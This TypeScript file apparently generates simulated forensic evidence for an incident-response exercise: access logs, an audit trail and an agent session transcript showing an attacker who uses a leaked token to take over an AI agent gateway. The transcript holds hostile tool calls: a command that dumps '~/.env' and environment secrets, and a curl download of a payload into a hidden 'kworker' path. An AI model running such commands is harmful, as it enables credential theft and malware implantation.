/** What the attacker and the owner left in logs before the alert. */
import type { HostFile } from '../../hosts/image.ts';
import { ATTACKER_IP } from '../images.ts';
import { minutes, type Site } from '../site.ts';
import { versionOf, type Installation } from './installation.ts';

interface Use {
  readonly agoMin: number;
  readonly ip: string;
  readonly method: string;
  readonly path: string;
  readonly status: number;
}

const OWNER = '203.0.113.44';

function uses(secret: string): readonly Use[] {
  const invoke = { method: 'POST', path: '/tools/invoke' };
  const open = { method: 'GET', path: `/?token=${secret}`, status: 200 };
  return [
    { agoMin: 190, ip: OWNER, ...open },
    { agoMin: 46, ip: ATTACKER_IP, ...invoke, status: 401 },
    { agoMin: 45, ip: ATTACKER_IP, ...open },
    { agoMin: 44, ip: ATTACKER_IP, ...invoke, status: 200 },
    { agoMin: 31, ip: ATTACKER_IP, ...invoke, status: 200 },
    { agoMin: 12, ip: ATTACKER_IP, ...invoke, status: 200 },
  ];
}

const lines = (items: readonly object[]): string => items.map((item) => `${JSON.stringify(item)}\n`).join('');

/** The current product logs who opens its dashboard, and no request over HTTP, whoever it let in. */
function currentLines({ alertedAt }: Site, version: string): readonly { readonly time: string }[] {
  const line = (agoMin: number, message: string) => {
    const time = new Date(alertedAt - minutes(agoMin)).toISOString();
    const meta = { runtime: 'node', date: time, logLevelId: 3, logLevelName: 'INFO', parentNames: ['openclaw'] };
    return {
      0: JSON.stringify({ subsystem: 'gateway/ws' }),
      1: message,
      _meta: meta,
      time: time.replace('Z', '+00:00'),
      message,
    };
  };
  const client = `client=openclaw-control-ui webchat v${version}`;
  const opened = (ip: string) => `webchat connected conn=0b7c remote=${ip} ${client} build=legacy`;
  return [
    line(190, opened(OWNER)),
    line(46, `unauthorized conn=51d2 remote=${ATTACKER_IP} ${client} role=operator auth=token reason=token_mismatch`),
    line(45, opened(ATTACKER_IP)),
    line(12, opened(ATTACKER_IP)),
  ];
}

function requestLines({ alertedAt }: Site, secret: string): readonly { readonly time: string }[] {
  return uses(secret).map(({ agoMin, ip, method, path, status }) => ({
    time: new Date(alertedAt - minutes(agoMin)).toISOString(),
    level: 'info',
    subsystem: 'gateway/http',
    ip,
    method,
    path,
    status,
    auth: status === 200 ? 'token' : 'none',
    ua: ip === OWNER ? 'Mozilla/5.0' : 'python-requests/2.32',
  }));
}

/** The file logs of the days that they fall on. */
export function accessLogs(site: Site, { product, secret }: Installation): HostFile[] {
  const entries = product === 'openclaw' ? currentLines(site, versionOf(product)) : requestLines(site, secret);
  const dates = [...new Set(entries.map(({ time }) => time.slice(0, 10)))];
  return dates.map((date) => ({
    path: `/tmp/${product}/${product}-${date}.log`,
    text: lines(entries.filter(({ time }) => time.startsWith(date))),
    mode: 0o600,
  }));
}

/** What the agent was made to do. */
export function transcript({ alertedAt }: Site, { state }: Installation): HostFile {
  const at = (agoMin: number) => new Date(alertedAt - minutes(agoMin)).toISOString();
  const call = (command: string) => ({ type: 'toolCall', name: 'exec', arguments: { command } });
  const entries = [
    { type: 'session', id: 'main', timestamp: at(44) },
    { type: 'message', timestamp: at(31), message: { role: 'assistant', content: [call('cat ~/.env; id; env')] } },
    {
      type: 'message',
      timestamp: at(12),
      message: { role: 'assistant', content: [call('curl -s http://198.51.100.77/k -o /var/tmp/.k/kworker')] },
    },
  ];
  return { path: `${state}/agents/main/sessions/main.jsonl`, text: lines(entries), mode: 0o600 };
}

/** audit.jsonl, where an installation keeps one. */
export function auditTrail({ alertedAt }: Site, { state }: Installation): HostFile {
  const entry = (agoMin: number, type: string, outcome: string, metadata: object) => ({
    ts: new Date(alertedAt - minutes(agoMin)).toISOString(),
    eventId: `00000000-0000-4000-8000-${String(agoMin).padStart(12, '0')}`,
    type,
    actor: { type: 'client', id: 'token', remoteIp: ATTACKER_IP },
    outcome,
    traceId: String(agoMin).padStart(32, '0'),
    metadata,
  });
  const entries = [
    entry(46, 'auth.failure', 'failure', { method: 'none' }),
    entry(44, 'auth.login', 'success', { method: 'token' }),
    entry(12, 'exec.request', 'success', { command: 'curl' }),
    entry(10, 'pairing.approve', 'success', { deviceName: 'MacBook-Pro' }),
  ];
  return { path: `${state}/audit.jsonl`, text: lines(entries), mode: 0o600 };
}
